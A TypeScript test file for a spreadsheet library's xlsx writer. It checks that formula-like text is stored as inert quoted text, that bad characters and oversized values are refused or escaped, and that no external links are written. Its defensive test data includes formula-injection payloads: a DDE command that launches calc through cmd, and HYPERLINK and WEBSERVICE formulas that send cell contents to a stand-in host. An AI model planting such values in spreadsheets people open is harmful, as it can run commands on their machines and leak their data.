import { makeCell, makeSheet, parseCell, type CellContent, type CellRef } from '../../../src/core/sheet';
import { patchWorkbook, readWorkbook, writeWorkbook } from '../../../src/formats/xlsx';
import { isFormulaLike } from '../../../src/formats/xlsx/quote';
import { FileHost } from '../../../src/hosts/file';
import { partsOf, rawWorkbook } from '../../support/xlsx';

const at = (ref: string): CellRef => parseCell(ref) as CellRef;
const put = (ref: string, to: CellContent) => ({ sheet: '表', cell: at(ref), to });

/** What a spreadsheet would run, send or open if it took it for a formula. */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://x.example/?"&A1,"点击")',
  "=cmd|'/C calc'!A0",
  '+SUM(1)',
  '-2+3',
  '@SUM(1)',
  '＝1+1',
  '\t=1+1',
  '=WEBSERVICE("http://x.example")',
];

const styles =
  '<numFmts/><fonts count="1"><font/></fonts><cellXfs count="3"><xf numFmtId="0" fontId="0"/><xf numFmtId="49" fontId="0"/><xf numFmtId="9" fontId="0" quotePrefix="1"/></cellXfs>';
const cells =
  '<sheetData><row r="1"><c r="A1"><v>1</v></c><c r="B1" s="1"><v>1</v></c><c r="C1" s="2" t="s"><v>0</v></c></row></sheetData>';
const book = (more = {}) => rawWorkbook({ sheets: { 表: cells }, strings: '<si><t>=0</t></si>', styles, ...more });

/** The cell's tag in the part, and the tag of its style. */
function written(bytes: Uint8Array, ref: string): { cell: string; style: string } {
  const parts = partsOf(bytes);
  const cell = new RegExp(`<c r="${ref}"[^>]*>`).exec(parts.get('xl/worksheets/sheet1.xml') ?? '')?.[0] ?? '';
  const sheet = parts.get([...parts.keys()].find((name) => /^xl\/styles/.test(name)) ?? '') ?? '';
  const list = sheet
    .slice(sheet.indexOf('<cellXfs'), sheet.indexOf('</cellXfs>'))
    .split('<xf ')
    .slice(1)
    .map((style) => `<xf ${style.slice(0, style.indexOf('>') + 1)}`);
  return { cell, style: list[Number(/ s="(\d+)"/.exec(cell)?.[1] ?? 0)] ?? '' };
}

describe('text that begins like a formula is text', () => {
  test.each(HOSTILE)('written into a file: %s', (text) => {
    const bytes = patchWorkbook(readWorkbook(book()), { sets: [put('A1', { text }), put('B1', { text })] }).zip.save();
    const [sheet] = readWorkbook(bytes).sheets;
    expect(partsOf(bytes).get('xl/worksheets/sheet1.xml')).not.toContain('<f');
    expect([sheet?.cells[0]?.[0]?.value, sheet?.cells[0]?.[0]?.formula]).toEqual([text, undefined]);
    // As if an apostrophe had been typed before it; a cell of text format needs none.
    expect(written(bytes, 'A1').cell).toContain('t="inlineStr"');
    expect(written(bytes, 'A1').style).toContain('quotePrefix="1"');
    expect(written(bytes, 'B1').style).toBe('<xf numFmtId="49" fontId="0"/>');
  });

  test.each(HOSTILE)('in a new file: %s', (text) => {
    const bytes = writeWorkbook([makeSheet('表', [[makeCell(text), makeCell(text, { numberFormat: '@' })]])]);
    expect(partsOf(bytes).get('xl/worksheets/sheet1.xml')).not.toContain('<f');
    expect(written(bytes, 'A1')).toEqual({
      cell: expect.stringContaining('t="s"') as string,
      style: expect.stringContaining('quotePrefix="1"') as string,
    });
    expect(written(bytes, 'B1').style).not.toContain('quotePrefix');
    expect(readWorkbook(bytes).sheets[0]?.cells[0]?.[0]?.value).toBe(text);
  });

  test('in a file without styles', () => {
    const bytes = patchWorkbook(readWorkbook(book({ styles: undefined })), {
      sets: [put('A1', { text: '=1' })],
    }).zip.save();
    expect(written(bytes, 'A1').style).toContain('quotePrefix="1"');
  });

  test('in a note', () => {
    const marked = patchWorkbook(readWorkbook(book()), {
      marks: [{ sheet: '表', cell: at('A1'), level: 'error', note: '=1+1 <x:FmlaMacro>' }],
    });
    const text = [...partsOf(marked.zip.save())].filter(([name]) => /comments|vml/.test(name)).map(([, part]) => part);
    expect(text.join('')).toContain('=1+1 &lt;x:FmlaMacro&gt;');
    expect(text.join('')).not.toContain('<x:FmlaMacro>');
  });

  test.each<[string, boolean]>([
    ['-', false],
    ['=', false],
    ['≥95%', false],
    ['95%', false],
    ['', false],
    ['-5%', true],
    ['@甲', true],
  ])('%s', (text, expected) => {
    expect(isFormulaLike(text)).toBe(expected);
  });

  test.each<[string, CellContent]>([
    ['a number', { number: 5 }],
    ['a number in a format', { number: 0.5, numberFormat: '0.0%' }],
    ['a formula', { formula: '=1+1' }],
    ['truth', { boolean: true }],
  ])('%s over such a text is none', (_, to) => {
    const bytes = patchWorkbook(readWorkbook(book()), { sets: [put('C1', to)] }).zip.save();
    expect(written(bytes, 'C1').style).not.toContain('quotePrefix');
  });

  test('ordinary text over such a text leaves the looks of the cell', () => {
    const bytes = patchWorkbook(readWorkbook(book()), { sets: [put('C1', { text: '甲' })] }).zip.save();
    expect(written(bytes, 'C1').style).toBe('<xf numFmtId="9" fontId="0" quotePrefix="1"/>');
    expect(partsOf(bytes).get('xl/styles.xml')).toBe(partsOf(book()).get('xl/styles.xml'));
  });
});

describe('what no file can hold', () => {
  test.each<[string, CellContent, string]>([
    ['control characters', { text: '\u0001甲\u001f' }, '<t xml:space="preserve">_x0001_甲_x001F_</t>'],
    ['halves of characters', { text: '甲\ud83d' }, '<t xml:space="preserve">甲\ufffd</t>'],
    ['no characters at all', { text: '\ufffe\uffff' }, '<t xml:space="preserve">_xFFFE__xFFFF_</t>'],
    ['numbers that are none', { number: NaN }, 't="e"><v>#NUM!</v>'],
    ['endless numbers', { number: -Infinity }, 't="e"><v>#NUM!</v>'],
    ['an error that is none', { error: '<x>' }, '<v>&lt;x&gt;</v>'],
  ])('%s', (_, to, xml) => {
    const bytes = patchWorkbook(readWorkbook(book()), { sets: [put('A1', to)] }).zip.save();
    expect(partsOf(bytes).get('xl/worksheets/sheet1.xml')).toContain(xml);
  });

  test('longer texts than a cell takes are refused, not cut', () => {
    const write = (length: number) =>
      patchWorkbook(readWorkbook(book()), { sets: [put('A1', { text: '甲'.repeat(length) })] });
    expect(write(32_767).sheets[0]?.cells[0]?.[0]?.text).toHaveLength(32_767);
    expect(() => write(32_768)).toThrow(
      expect.objectContaining({ code: 'too-large', data: { limit: 'text', cell: 'A1' } }),
    );
  });

  test.each(['a\u0007b', '\ud800', '甲\n乙', 'a/b', "'a", ''])('sheets are not named %j', async (sheet) => {
    const host = new FileHost(readWorkbook(book()));
    const result = await host.apply([{ kind: 'addSheet', sheet, visible: true }], { label: '' });
    expect(result).toMatchObject({ status: 'failed', error: { code: 'unsupported' } });
  });

  test('names of sheets that look like codes are read as they were written', () => {
    const name = '甲_x0041_<&>';
    const file = patchWorkbook(readWorkbook(writeWorkbook([makeSheet(name, [])])), {
      addSheets: [{ sheet: `${name}二`, visible: true }],
    });
    expect(readWorkbook(file.zip.save()).sheets.map((sheet) => sheet.name)).toEqual([name, `${name}二`]);
  });
});

test('nothing that is written leads out of the file', () => {
  const rows = HOSTILE.map((text) => [makeCell(text), makeCell('http://x.example'), makeCell('\\\\server\\share')]);
  const fresh = writeWorkbook([makeSheet('表', rows)]);
  const file = patchWorkbook(readWorkbook(fresh), {
    addSheets: [{ sheet: '新', visible: true }],
    sets: [put('A1', { text: 'file:///c:/x' }), put('D1', { formula: '=A1' })],
    draws: [
      {
        kind: 'validation',
        sheet: '表',
        range: { top: 0, left: 0, bottom: 0, right: 0 },
        source: { list: ['=1', 'http://x.example'] },
        prompt: { title: '=1', text: 'http://x.example' },
        strict: true,
      },
    ],
    marks: [{ sheet: '表', cell: at('B1'), level: 'info', note: 'http://x.example' }],
  });
  for (const [name, text] of partsOf(file.zip.save())) {
    expect(`${name}: ${/TargetMode|externalLink|<ddeLink|oleLink|<hyperlink|<webPr/i.exec(text)?.[0] ?? ''}`).toBe(
      `${name}: `,
    );
    if (!name.endsWith('.rels')) continue;
    expect(
      [...text.matchAll(/Target="([^"]*)"/g)].filter(([, target]) => /^[a-z]+:|^\\\\|^\/\//i.test(target ?? '')),
    ).toEqual([]);
  }
});
